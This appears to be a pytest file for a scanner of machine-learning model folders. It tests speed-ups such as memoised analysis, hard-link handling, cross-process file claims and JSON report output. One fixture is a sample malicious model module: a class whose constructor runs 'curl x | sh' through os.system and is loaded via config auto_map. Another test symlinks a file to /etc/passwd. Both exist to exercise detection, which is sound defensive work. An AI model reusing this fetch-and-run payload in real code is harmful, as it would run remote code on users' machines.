"""Fleet speed-ups keep every verdict (issue 10, "Speed on fleets"): copies of a file are
analysed once and reported under each path, hard links are read once, the auto_map class
analysis is memoised per source, the claims table gives every file one owner across
processes, and the JSON report stays the same document. Under 1 s."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from scanner.api import ScanReport, scan_paths, scan_target
from scanner.core.model import Verdict
from scanner.report import render, to_json_dict
from scanner.scan import memo as _memo
from scanner.scan.parallel import Claims, default_jobs

EVIL_CODE = ("import os\n\ndef _fetch():\n    os.system('curl x | sh')\n\n"
             "class Evil:\n    def __init__(self, config):\n        _fetch()\n")


def _count_analyses(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    seen: list[str] = []
    real = _memo.analyze_blob

    def counting(ctx, blob, fmt=None):  # type: ignore[no-untyped-def]
        seen.append(blob.name)
        return real(ctx, blob, fmt)

    monkeypatch.setattr(_memo, "analyze_blob", counting)
    monkeypatch.setattr(_memo, "_MEMO", {})
    monkeypatch.setattr(_memo, "_INODES", {})
    return seen


def test_copies_of_a_file_are_analysed_once_and_reported_under_each_path(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen = _count_analyses(monkeypatch)
    for i in range(3):
        model = tmp_path / f"copy{i}"
        model.mkdir()
        (model / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "m_e.Evil"}}))
        (model / "m_e.py").write_text(EVIL_CODE)
    result = scan_target(tmp_path)
    assert [p for p in seen if p.endswith("config.json")] == ["copy0/config.json"]
    assert result.verdict is Verdict.MALICIOUS and result.files_scanned == 6
    for i in range(3):
        paths = {f.rule_id for f in result.findings if f.path == f"copy{i}/config.json"}
        assert "config.auto_map" in paths
        calls = [f for f in result.findings if f.rule_id == "code.dangerous_call"
                 and f.path == f"copy{i}/m_e.py" and "class Evil" in f.message]
        assert len(calls) == 1, result.findings  # the memoised class analysis, repathed


def test_hard_links_of_a_large_file_are_read_once(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen = _count_analyses(monkeypatch)
    big = {"auto_map": {"AutoModel": "m.M"}, "pad": "x" * (_memo.MAX_BYTES + 10)}
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "config.json").write_text(json.dumps(big))
    for name in ("b", "c"):
        (tmp_path / name).mkdir()
        os.link(tmp_path / "a" / "config.json", tmp_path / name / "config.json")
    result = scan_target(tmp_path)
    assert seen == ["a/config.json"]
    assert result.files_scanned == 3
    for name in ("a", "b", "c"):
        rules = {f.rule_id for f in result.findings if f.path == f"{name}/config.json"}
        assert {"config.auto_map", "fs.hardlink"} <= rules, (name, rules)


def test_a_hard_link_changed_between_scans_is_analysed_again(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen = _count_analyses(monkeypatch)
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
    (tmp_path / "a" / "x.json").write_text('{"x": 1}')
    os.link(tmp_path / "a" / "x.json", tmp_path / "b" / "x.json")
    scan_target(tmp_path)
    assert seen == ["a/x.json"]
    (tmp_path / "a" / "x.json").write_text('{"auto_map": {"AutoModel": "m.M"}}')  # new ctime
    result = scan_target(tmp_path)
    assert seen == ["a/x.json", "a/x.json"]
    assert "config.auto_map" in {f.rule_id for f in result.findings if f.path == "b/x.json"}


def test_claims_give_each_group_one_owner_across_processes() -> None:
    claims = Claims()
    try:
        assert claims.owner("tokenizer.json", 10, 1) == 1
        assert claims.owner("tokenizer.json", 10, 0) == 1  # claimed: stays 1's
        pid = os.fork()
        if pid == 0:  # pragma: no cover - child
            code = 0 if all(claims.owner(f"f{i}", i, 2) == 2 for i in range(100)) else 1
            os._exit(code)
        _, status = os.waitpid(pid, 0)
        assert os.waitstatus_to_exitcode(status) == 0
        assert {claims.owner(f"f{i}", i, 0) for i in range(100)} <= {1, 2}
        assert claims.owner("f7", 7, 0) in (1, 2)
    finally:
        claims.close()


def test_default_jobs_is_within_the_usable_cpus() -> None:
    assert 1 <= default_jobs() <= len(os.sched_getaffinity(0))


def test_json_report_is_the_same_document_with_one_finding_per_line(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "m.M"}}))
    (tmp_path / "link.json").symlink_to("/etc/passwd")
    (tmp_path / "odd \u00e9.json").write_text('{"a": 1, "a": 2}')
    report: ScanReport = scan_paths([tmp_path, tmp_path / "missing"])
    text = render(report, "json")
    assert json.loads(text) == to_json_dict(report)
    assert text.isascii() and text.startswith('{\n  "schema_version": "1",\n')
    finding_lines = [line.strip().rstrip(",") for line in text.splitlines()
                     if line.strip().startswith('{"rule_id"')]
    assert len(finding_lines) == len(report.targets[0].findings) >= 3
    assert all(json.loads(line)["rule_id"] for line in finding_lines)


def test_a_moved_finding_equals_one_built_at_the_new_path() -> None:
    from scanner.core.model import Finding, Severity

    f = Finding("fs.hardlink", Severity.MEDIUM, Verdict.POLICY, "a/x.bin", "m", "e", 7)
    moved = f.moved("b/x.bin")
    assert moved == Finding("fs.hardlink", Severity.MEDIUM, Verdict.POLICY, "b/x.bin", "m",
                            "e", 7)
    assert hash(moved) == hash(Finding("fs.hardlink", Severity.MEDIUM, Verdict.POLICY,
                                       "b/x.bin", "m", "e", 7))
    assert f.path == "a/x.bin" and moved is not f  # the original is untouched
    with pytest.raises(AttributeError):  # still frozen
        moved.path = "c"  # type: ignore[misc]


def test_folder_extensions_match_posixpath_splitext() -> None:
    import itertools
    import posixpath

    from scanner.scan.folder import _extension

    names = ["".join(t) for n in range(1, 7) for t in itertools.product("a.B/", repeat=n)]
    names += ["model.SafeTensors", "dir.d/README", ".hidden", "x/.hidden.json", "a/..b"]
    assert [_extension(n) for n in names] == [posixpath.splitext(n)[1].lower() for n in names]


def test_python_dash_m_scanner_writes_the_whole_report_before_it_exits(
        tmp_path: Path) -> None:
    """``python -m scanner`` leaves through ``os._exit`` after flushing: a report larger
    than a pipe's buffer still arrives whole, with the exit code."""
    import subprocess
    import sys

    for i in range(300):
        (tmp_path / f"config{i:03d}.json").write_text(
            json.dumps({"auto_map": {"AutoModel": f"m{i}.M"}, "pad": "p" * 200}))
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[3])}
    done = subprocess.run([sys.executable, "-m", "scanner", "--format", "json", "--jobs", "1",
                           str(tmp_path)], capture_output=True, text=True, env=env,
                          timeout=120, check=False)
    assert done.returncode == 1, done.stderr
    assert len(done.stdout) > 1 << 16
    assert json.loads(done.stdout)["summary"]["files_scanned"] == 300
    assert "NO VERDICT" not in done.stderr and "policy" in done.stderr  # summary line too
